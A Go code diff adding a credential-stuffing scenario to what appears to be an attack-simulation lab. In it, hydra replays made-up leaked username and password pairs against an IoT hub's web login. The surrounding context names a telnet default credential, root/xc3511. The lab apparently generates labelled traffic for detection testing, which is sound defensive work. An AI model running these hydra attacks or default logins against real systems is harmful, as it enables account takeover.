@@ -75,6 +75,19 @@ func init() {
 			},
 		},
 		&Scenario{
+			Name: "credential-stuffing", Difficulty: Medium,
+			Description: fmt.Sprintf("Credential stuffing: hydra replays %d user:password pairs leaked from another site, every account and "+
+				"every password different, against the IoT hub's web login form (%s); none is right.", len(stuffedCreds), iotWebLogin),
+			Tools: []string{"hydra"}, Classes: []string{"bruteforce.http"}, MITRE: []string{"T1110.004"},
+			Attacker: hostPtr(hostAtk), Victims: v4(hostIoT), Duration: 20 * time.Second,
+			Notes: "one try per account: the alert's technique is stuffing (many accounts, each with its own password), " +
+				"not guessing or spraying; the pairs are made up by the lab (files.go)",
+			attack: func(a *attackRun) error {
+				return a.runUpTo(hostAtk, a.duration, "hydra", "-I", "-t", "4", "-C", a.w.path("words/leaked-pairs.txt"),
+					hostIoT.IPv4().String(), "http-post-form", iotWebLogin+":username=^USER^&password=^PASS^:F="+iotWebFailed)
+			},
+		},
+		&Scenario{
 			Name: "bruteforce-telnet", Difficulty: Easy,
 			Description: "hydra guesses telnet passwords of the IoT hub's telnet service and finds the factory default root/xc3511.",
 			Tools:       []string{"hydra"}, Classes: []string{"bruteforce.telnet", "iot.default_creds"}, MITRE: []string{"T1110.001", "T1078.001"},
